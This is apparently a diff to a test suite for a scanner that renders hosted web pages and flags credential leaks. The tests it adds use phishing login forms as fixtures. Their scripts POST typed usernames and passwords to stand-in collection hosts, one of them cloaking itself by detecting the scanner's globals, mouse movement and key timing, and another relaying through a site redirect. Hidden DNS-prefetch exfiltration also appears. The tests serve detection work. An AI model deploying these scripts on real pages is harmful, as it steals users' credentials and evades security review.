@@ -384,6 +384,66 @@ describe('where the page runs, and what it is given', () => {
   });
 });
 
+describe('pages that hide from a render, or ask in steps', () => {
+  const form =
+    '<form id="f"><input name="u" placeholder="账号"><input type="password" name="p" placeholder="密码"><button>登录</button></form>';
+
+  it('is not told by a global, by the mouse or by the pace of the keys', async () => {
+    // An outside review's kit: it sends only when nothing names the render, the mouse moved a few
+    // times and the keys came at a person's pace, as a visitor's browser has them.
+    const script = `let moves = 0; addEventListener('mousemove', () => moves++);
+      const gaps = []; let last = 0;
+      addEventListener('keydown', (e) => { if (last) gaps.push(e.timeStamp - last); last = e.timeStamp; });
+      document.getElementById('f').onsubmit = (e) => { e.preventDefault();
+        const marked = ['__sitehallRouter', '__sitehallKeys', '__sitehallHint'].some((k) => k in window);
+        const pace = gaps.reduce((a, b) => a + b, 0) / Math.max(1, gaps.length);
+        if (marked || moves < 3 || pace < 25) return alert('用户名或密码错误');
+        fetch('https://collect.cloak.example/c', { method: 'POST', body: JSON.stringify({ u: e.target.u.value, p: e.target.p.value }) }); };`;
+    const { observations: obs } = await render({ 'index.html': page(form, script) });
+    expect(obs.dialogs).toEqual([]);
+    expect(obs.leaks).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ kind: 'password', host: 'collect.cloak.example', external: true }),
+      ]),
+    );
+  });
+
+  it('fills the fields a button brings: a login that asks the password after 下一步', async () => {
+    const first =
+      '<form id="f"><input name="u" placeholder="账号"><button type="button" id="next">下一步</button></form>';
+    const script = `document.getElementById('next').onclick = () => {
+        document.getElementById('f').insertAdjacentHTML('beforeend', '<input type="password" name="p" placeholder="密码"><button>登录</button>');
+        document.getElementById('next').remove(); };
+      document.getElementById('f').onsubmit = (e) => { e.preventDefault();
+        if (!e.target.p || !e.target.p.value) return;
+        fetch('https://collect.steps.example/c', { method: 'POST', body: JSON.stringify({ u: e.target.u.value, p: e.target.p.value }) }); };`;
+    const { observations: obs } = await render({ 'index.html': page(first, script) });
+    expect(obs.leaks).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ kind: 'password', host: 'collect.steps.example', external: true }),
+      ]),
+    );
+  });
+
+  it("finds what a form sends to another host through the site's own redirect", async () => {
+    // The form posts to the site's own path; its _redirects passes the request on (307 keeps the body).
+    const rules = compileSiteRules({ redirects: '/login.html https://collect.redirect.example/c 307!' });
+    const { observations: obs } = await render(
+      {
+        'index.html': page(form.replace('<form id="f">', '<form id="f" action="login.html" method="post">')),
+        'login.html': page('<p>登录中</p>'),
+      },
+      30_000,
+      { rules, spaFallback: false, cleanUrls: false },
+    );
+    expect(obs.leaks).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ kind: 'password', host: 'collect.redirect.example', external: true }),
+      ]),
+    );
+  });
+});
+
 describe('hidden channels', () => {
   it('reads what DNS-prefetch and preconnect links carry in their host names', async () => {
     const form =
@@ -437,7 +497,7 @@ describe('hidden channels', () => {
     // Values the page knows beforehand, so its late hint carries one.
     const canaries = drawCanaries();
     // A page that tries the bindings itself finds none; one that adds 300 hints has 200 read.
-    const script = `document.title = [typeof window.__sitehallHint, typeof window.__sitehallDevice, typeof window.__sitehallPermission, typeof window.__sitehallKeys].join(',');
+    const script = `document.title = [typeof window.__sitehallHint, typeof window.__sitehallDevice, typeof window.__sitehallPermission, typeof window.__sitehallKeys, typeof window.__sitehallRouter].join(',');
       for (let i = 0; i < 300; i++) { const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//h' + i + '.x.top'; document.head.appendChild(l); }
       const late = document.createElement('link'); late.rel = 'preconnect'; late.href = 'https://${canaries.username}.late.top'; document.head.appendChild(late);
       fetch('https://title.example/t?' + document.title, { method: 'POST', body: 'x' });`;
@@ -450,7 +510,7 @@ describe('hidden channels', () => {
       },
     );
     expect(obs.externalRequests.map((r) => r.url)).toContain(
-      'https://title.example/t?undefined,undefined,undefined,undefined',
+      'https://title.example/t?undefined,undefined,undefined,undefined,undefined',
     );
     // Past 200 hints per pass nothing more is read: the late canary is not there.
     expect(obs.leaks).toEqual([]);
